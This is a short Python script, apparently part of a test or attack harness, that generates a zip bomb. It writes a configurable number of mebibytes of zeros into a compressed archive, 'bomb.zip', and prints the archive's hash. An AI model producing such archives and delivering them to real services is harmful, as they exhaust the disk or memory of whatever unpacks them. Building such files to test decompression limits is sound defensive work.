"""An archive that is small as it is and large when it is unpacked."""

import hashlib
import zipfile

import attack

with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("zeros", "w") as zeros:
        for _ in range(attack.PARAMETERS["mebibytes"]):
            zeros.write(bytes(1 << 20))
with open("bomb.zip", "rb") as file:
    print(hashlib.sha256(file.read()).hexdigest())
